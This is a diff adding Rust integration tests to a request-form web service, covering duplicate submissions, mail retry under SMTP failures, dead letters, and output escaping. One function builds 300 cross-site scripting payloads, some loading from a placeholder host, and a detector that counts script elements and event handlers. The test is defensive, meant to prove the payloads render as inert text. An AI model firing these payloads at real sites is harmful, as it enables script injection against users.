@@ -2,6 +2,7 @@
 
 use crate::app::{Answer, TestApp};
 use crate::db::{DAY, Database, NOW, Start, each_database};
+use crate::smtp::{Mode, Sink, Stage};
 use http::{Method, StatusCode};
 use model::interests::{InterestKind, InterestStatus};
 use serde_json::{Value, json};
@@ -432,6 +433,32 @@ async fn a_form_is_filled_page_by_page_without_the_program_and_nothing_typed_is_
 }
 
 #[tokio::test]
+async fn a_second_press_finds_what_the_first_one_sent_and_two_forms_are_two_drafts() {
+    let app = TestApp::new().await;
+    let page = app.get("/fr/demandes/question").await;
+    let (token, key) = (hidden(&page, "token"), hidden(&page, "key"));
+    let fields = encoded(&[("message", "Une question"), ("token", &token), ("key", &key)]);
+    let cookie = cookies(&app.write(Method::POST, "/fr/demandes/question?step=question", &[FORM], fields).await);
+    let headers = [FORM, ("cookie", cookie.as_str())];
+    // The same browser begins another form meanwhile.
+    let company = encoded(&[("organization", "Atelier (exemple)"), ("country", "FR"), ("sector", "")]);
+    app.write(Method::POST, "/fr/demandes/entreprise?step=organization", &headers, company).await;
+    let contact = encoded(&[("name", "Noor"), ("email", "noor@exemple.invalid")]);
+    app.write(Method::POST, "/fr/demandes/question?step=contact", &headers, contact).await;
+    let last = encoded(&[("consent_answer", "yes"), ("key", &key)]);
+    let first = app.write(Method::POST, "/fr/demandes/question?step=check", &headers, last.clone()).await;
+    let second = app.write(Method::POST, "/fr/demandes/question?step=check", &headers, last).await;
+    for answer in [&first, &second] {
+        assert_eq!((answer.status, answer.header("location")), (StatusCode::SEE_OTHER, "/fr/demandes/recue"));
+    }
+    let aside = server::store::Listing { caught: true, ..Default::default() };
+    let sent = app.store.interests(Default::default(), None, 10).await.expect("reads").len();
+    assert_eq!(sent + app.store.interests(aside, None, 10).await.expect("reads").len(), 1);
+    let company = app.get_with("/fr/demandes/entreprise", &[("cookie", &cookie)]).await;
+    assert!(company.text().contains("Atelier (exemple)"), "the other form is as it was left");
+}
+
+#[tokio::test]
 async fn a_trap_that_is_sprung_shows_what_everyone_sees_and_sets_the_request_aside() {
     let app = TestApp::on(Database::sqlite(Start::Seeded).await, TEAM).await;
     let page = app.get("/en/requests/question").await;
@@ -478,3 +505,188 @@ each_database!(a_draft_cannot_be_read_in_the_database, Seeded, |db| {
     assert_eq!(next.status, StatusCode::SEE_OTHER);
     assert!(!holds(&app, "canari-bleu-4242").await);
 });
+
+/// A request is taken whatever the mail does, and its letters leave later, at most once too many.
+async fn mail_comes_later(mode: Mode, most: usize) {
+    let mut sink = Sink::start().await;
+    sink.set(mode).await;
+    let url = sink.url();
+    let flags = ["--team-mail", "equipe@exemple.invalid", "--smtp-url", &url, "--smtp-timeout", "1"];
+    let app = TestApp::on(Database::sqlite(Start::Seeded).await, &flags).await;
+    let (reference, code) = sent(&app, &minimal()).await;
+    assert_eq!(app.outbox.send_due().await.expect("runs"), 0, "{mode:?}");
+    assert_eq!(app.outbox.send_due().await.expect("runs"), 0, "not before a minute has passed");
+    sink.set(Mode::Accept).await;
+    app.clock.set(NOW + 61);
+    assert_eq!(app.outbox.send_due().await.expect("runs"), 2, "{mode:?}");
+    let letters = sink.wait_for(2).await;
+    assert!(letters.len() <= most, "{mode:?}: {} letters", letters.len());
+    let ids: std::collections::BTreeSet<_> =
+        letters.iter().filter_map(|letter| letter.raw.lines().find(|line| line.starts_with("Message-ID"))).collect();
+    assert_eq!(ids.len(), 2, "a letter keeps its Message-ID");
+    let read = |raw: &str| {
+        mail_parser::MessageParser::default()
+            .parse(raw.as_bytes())
+            .and_then(|mail| mail.body_text(0).map(|text| text.into_owned()))
+            .expect("a letter")
+    };
+    let (own, team): (Vec<_>, Vec<_>) = letters.iter().partition(|letter| letter.to == ["noor@exemple.invalid"]);
+    assert!(read(&own[0].raw).contains(&reference) && read(&own[0].raw).contains(&code));
+    assert!(!team[0].raw.contains(&code) && !team[0].raw.contains("Noor"), "the team's letter tells nothing of a person");
+}
+
+#[tokio::test]
+async fn mail_that_is_down_refuses_or_is_cut_costs_no_request() {
+    mail_comes_later(Mode::Down, 2).await;
+    mail_comes_later(Mode::Refuse4xx(Stage::Letter), 2).await;
+    mail_comes_later(Mode::Refuse5xx(Stage::Recipient), 2).await;
+    mail_comes_later(Mode::Slow(std::time::Duration::from_secs(3)), 2).await;
+    // What was taken and not acknowledged comes once more.
+    mail_comes_later(Mode::CutAfterData, 4).await;
+}
+
+#[tokio::test]
+async fn a_letter_that_never_leaves_is_dead_after_ten_tries_and_may_be_tried_again() {
+    let mut sink = Sink::start().await;
+    sink.set(Mode::Down).await;
+    let url = sink.url();
+    let app = TestApp::on(Database::sqlite(Start::Seeded).await, &["--smtp-url", &url]).await;
+    sent(&app, &minimal()).await;
+    for day in 0..12 {
+        app.clock.set(NOW + day * 2 * DAY);
+        app.outbox.send_due().await.expect("runs");
+    }
+    let dead = app.store.letters("dead").await.expect("reads");
+    assert_eq!((dead.len(), dead[0].attempts), (1, 10));
+    sink.set(Mode::Accept).await;
+    assert!(app.store.retry_letter(dead[0].id).await.expect("retries"));
+    assert_eq!(app.outbox.send_due().await.expect("runs"), 1);
+}
+
+/// Texts that would run, or break out, where they are not escaped.
+fn hostile() -> Vec<String> {
+    let runs =
+        ["alert(1)", "fetch('//x.invalid')", "document.title='x'", "top.location='//x.invalid'", "eval(name)", "import('//x.invalid')"];
+    let forms = [
+        "<script>{}</script>",
+        "</script><script>{}</script>",
+        "\"><script>{}</script>",
+        "'><script>{}</script>",
+        "</textarea><script>{}</script>",
+        "</title><script>{}</script>",
+        "--><script>{}</script>",
+        "]]><script>{}</script>",
+        "<img src=x onerror={}>",
+        "\" onfocus={} autofocus x=\"",
+        "' onmouseover={} x='",
+        "<svg onload={}>",
+        "<svg><animate onbegin={} attributeName=x>",
+        "<iframe srcdoc='<script>{}</script>'>",
+        "<a href=javascript:{}>x</a>",
+        "javascript:{}",
+        "<body onload={}>",
+        "<details open ontoggle={}>",
+        "<input autofocus onfocus={}>",
+        "<math><mtext></form><form><mglyph><style></math><img src onerror={}>",
+        "{{constructor.constructor('{}')()}}",
+        "{% raw %}{}{% endraw %}",
+        "${{{}}}",
+        "&lt;script&gt;{}&lt;/script&gt;",
+        "\\u003cscript>{}\\u003c/script>",
+        "<style>@import '{}'</style>",
+        "<link rel=import href='{}'>",
+        "<base href='//{}'>",
+        "<meta http-equiv=refresh content='0;url=javascript:{}'>",
+        "<object data='javascript:{}'>",
+        "<embed src='javascript:{}'>",
+        "<form action='javascript:{}'><button>",
+        "<button formaction='javascript:{}'>",
+        "<video><source onerror={}>",
+        "<audio src onerror={}>",
+        "<marquee onstart={}>",
+        "<noscript><p title='</noscript><img src onerror={}>'>",
+        "<template><script>{}</script></template>",
+        "<xmp><script>{}</script>",
+        "<plaintext><script>{}</script>",
+        "<select><template><img src onerror={}>",
+        "<table background='javascript:{}'>",
+        "<div style='background:url(javascript:{})'>",
+        "<isindex onfocus={}>",
+        "<keygen autofocus onfocus={}>",
+        "<frameset onload={}>",
+        "`><script>{}</script>",
+        "%3Cscript%3E{}%3C/script%3E",
+        "\u{feff}<script>{}</script>",
+        "<ſcript>{}</ſcript>",
+    ];
+    runs.iter().flat_map(|run| forms.iter().map(move |form| form.replace("{}", run))).collect()
+}
+
+/// What runs, or loads, in a page: elements and attributes that ours do not have more of, whatever is written in a request.
+fn running(page: &scraper::Html) -> (usize, usize) {
+    let elements = "script, iframe, object, embed, base, img, svg[onload], style, form[action^=javascript], meta[http-equiv=refresh], link[rel=import]";
+    let handlers = page
+        .tree
+        .values()
+        .filter_map(scraper::Node::as_element)
+        .flat_map(scraper::node::Element::attrs)
+        .filter(|(name, value)| name.starts_with("on") || value.trim_start().to_lowercase().starts_with("javascript:"));
+    (page.select(&crate::app::css(elements)).count(), handlers.count())
+}
+
+#[tokio::test]
+async fn three_hundred_hostile_texts_are_read_as_texts_wherever_they_are_shown() {
+    let flags = ["--requests-per-hour", "100000", "--requests-per-domain", "100000", "--attack-per-minute", "100000"];
+    let app = TestApp::on(Database::sqlite(Start::Seeded).await, &flags).await;
+    let texts = hostile();
+    assert_eq!(texts.len(), 300);
+    let raw = |text: &String| running(&scraper::Html::parse_document(&format!("<div>{text}</div>"))) != (0, 0);
+    assert!(texts.iter().filter(|text| raw(text)).count() > 150, "written as they are, they would run");
+    // Each comes from elsewhere: codes are tried sixty times an hour from one place.
+    let open = async |reference: &str, client: &str| {
+        let link = format!("/fr/suivi?reference={reference}&code={}", app.desk.secrets.code(reference));
+        let cookie = cookies(&app.get_with(&link, &[("x-forwarded-for", client)]).await);
+        app.get_with("/fr/suivi", &[("cookie", &cookie)]).await.page()
+    };
+    let (plain, _) = sent(&app, &minimal()).await;
+    let ours = running(&open(&plain, "192.0.2.1").await);
+    for (at, text) in texts.into_iter().enumerate() {
+        let client = format!("198.51.{}.{}", at / 250, at % 250);
+        let mut body = minimal();
+        body["contact"]["name"] = json!(text.chars().take(120).collect::<String>());
+        body["answers"]["message"] = json!(text);
+        let (reference, code) = sent(&app, &body).await;
+        let write = json!({ "message": text }).to_string();
+        assert_eq!(
+            app.write(
+                Method::POST,
+                &format!("/api/v1/interests/{reference}/messages?code={code}"),
+                &[JSON, ("x-forwarded-for", &client)],
+                write
+            )
+            .await
+            .status,
+            StatusCode::NO_CONTENT
+        );
+        let stored = app.store.interest(&reference).await.expect("reads").expect("is there");
+        app.store.answer_interest(&stored, "conseil", &text, InterestStatus::Answered).await.expect("answers");
+        let page = open(&reference, &client).await;
+        assert_eq!(running(&page), ours, "{text}");
+        let shown = page.select(&crate::app::css(".timeline__text")).next().expect("a message").text().collect::<String>();
+        assert_eq!(shown.trim(), text.trim(), "it is there, as it was written");
+    }
+    // The letters that carry them: none holds an element that runs.
+    app.outbox.send_due().await.expect("sends");
+    let letters = std::fs::read_dir(app.config.mail_folder()).expect("a folder");
+    let mut count = 0;
+    for letter in letters {
+        let bytes = std::fs::read(letter.expect("a letter").path()).expect("reads");
+        let letter = mail_parser::MessageParser::default().parse(&bytes).expect("a letter");
+        let html = letter.body_html(0).expect("a body");
+        let page = scraper::Html::parse_document(&html);
+        let (elements, handlers) = running(&page);
+        assert_eq!((elements - page.select(&crate::app::css("style")).count(), handlers), (0, 0), "{html}");
+        count += 1;
+    }
+    assert!(count > 600, "{count} letters");
+}
